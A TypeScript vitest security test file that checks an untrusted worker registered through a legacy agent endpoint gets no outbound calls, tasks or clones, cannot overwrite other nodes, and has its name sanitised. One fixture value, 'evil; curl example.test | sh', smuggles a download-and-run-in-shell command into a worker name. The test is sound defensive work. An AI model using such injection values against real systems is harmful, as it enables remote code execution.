import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_KEY, enrolNode, startTestPlane, type TestPlane } from '../support/control-plane.ts';

const admin = { 'X-MEMBRIDGE-ADMIN': ADMIN_KEY };
const EVIL = 'evil; curl example.test | sh';

let test: TestPlane;
let listener: Server;
let calls = 0;
let url: string;
beforeAll(async () => {
  test = await startTestPlane();
  await enrolNode(test, 'honest');
  listener = createServer((_request, response) => {
    calls += 1;
    response.end('{}');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  await test.call('POST', '/projects', { headers: admin, body: { name: 'garden' } });
});
afterAll(async () => {
  listener.close();
  await test.stop();
});

describe('S24: a machine on the original’s agent', () => {
  it('causes no call to its address, whatever is requested', async () => {
    for (const name of ['evil', EVIL]) {
      const body = { name, url, status: 'online', capabilities: { claude_cli: true, max_concurrency: 32 } };
      expect((await test.call('POST', '/api/runtime/workers', { body })).status).toBe(201);
      const worker = `/api/runtime/workers/${encodeURIComponent(name)}`;
      expect((await test.call('GET', `${worker}/agent-health`)).status).toBe(200);
      for (const action of ['update', 'restart', 'uninstall']) {
        expect((await test.call('POST', `${worker}/agent-${action}`)).status).toBe(409);
      }
      const sync = { headers: admin, body: { project: 'garden', agent: name } };
      expect((await test.call('POST', '/sync/push', sync)).status).toBe(409);
    }
    expect(calls).toBe(0);
  });

  it('gets no task and no clone, although it reports free slots', async () => {
    const made = await test.call('POST', '/api/runtime/llm-tasks', { body: { prompt: 'say hello' } });
    const task = `/api/runtime/llm-tasks/${String(made.body['id'])}`;
    expect((await test.call('POST', `${task}/dispatch`, { body: { worker_id: 'evil' } })).status).toBe(409);
    expect((await test.call('POST', `${task}/lease`, { body: {} })).status).toBe(503);
    const project = await test.call('POST', '/api/runtime/projects', {
      body: { name: 'p', repo_url: 'https://git.example.org/p.git' },
    });
    const clone = `/api/runtime/projects/${String(project.body['id'])}/clone`;
    expect((await test.call('POST', clone, { body: { node_id: 'evil' } })).status).toBe(409);
  });

  it('does not replace a node, and changes no row but its own', async () => {
    const of = async (id: string) => (await test.call('GET', `/api/runtime/workers/${id}`)).body;
    const before = await of('honest');
    const body = { name: 'honest', url, capabilities: { claude_cli: true, max_concurrency: 32 } };
    expect((await test.call('POST', '/api/runtime/workers', { body })).status).toBe(409);
    expect((await test.call('POST', '/agents', { headers: admin, body })).status).toBe(409);
    expect(await of('honest')).toEqual(before);
  });

  it('has a name that stays a name in the command that moves it', async () => {
    const sync = { headers: admin, body: { project: 'garden', agent: EVIL } };
    const { body } = await test.call('POST', '/sync/push', sync);
    const line = String(body['detail']).split('Membridge: ').at(-1);
    expect(line).toBe(
      'MEMBRIDGE_SERVER_URL=ADDRESS MEMBRIDGE_ENROL_TOKEN=TOKEN MEMBRIDGE_NODE_ID=evil-curl-example.test-sh ./install.sh agent',
    );
  });

  it('is one of at most a thousand', async () => {
    const { db } = test.plane.deps;
    await db.run((executor) =>
      executor.execute(`insert into original_agents (name, url, status, capabilities, ip_addrs, agent_version, os_info, install_method, last_seen, registered_at)
        select 'made-' || n, '', 'online', '{"claude_cli": false, "max_concurrency": 1, "labels": []}', '[]', '', '', 'manual', 1, 1 from generate_series(1, 1200) n`),
    );
    const body = { name: 'one more', url };
    expect((await test.call('POST', '/api/runtime/workers', { body })).status).toBe(201);
    const nodes = (await test.call('GET', '/api/runtime/workers')).body as unknown as {
      kind: string;
      id: string;
    }[];
    const originals = nodes.filter(({ kind }) => kind === 'original');
    expect(originals).toHaveLength(1_000);
    expect(originals.map(({ id }) => id)).toContain('one more');
  });
});
